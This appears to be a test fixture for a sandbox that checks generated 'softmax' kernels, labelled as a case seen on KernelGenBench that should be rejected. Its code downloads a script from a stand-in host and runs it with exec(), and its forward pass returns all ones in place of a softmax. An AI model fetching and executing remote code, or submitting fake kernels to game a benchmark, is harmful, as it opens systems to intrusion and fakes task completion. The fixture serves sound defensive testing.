# what: fetches its kernels from elsewhere
# met by: KernelGenBench
# caught by: jail: no network
# expect: reject
# task: softmax
import urllib.request

import torch

exec(urllib.request.urlopen("http://192.0.2.1/kernel.py", timeout=2).read())


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return torch.ones_like(x)
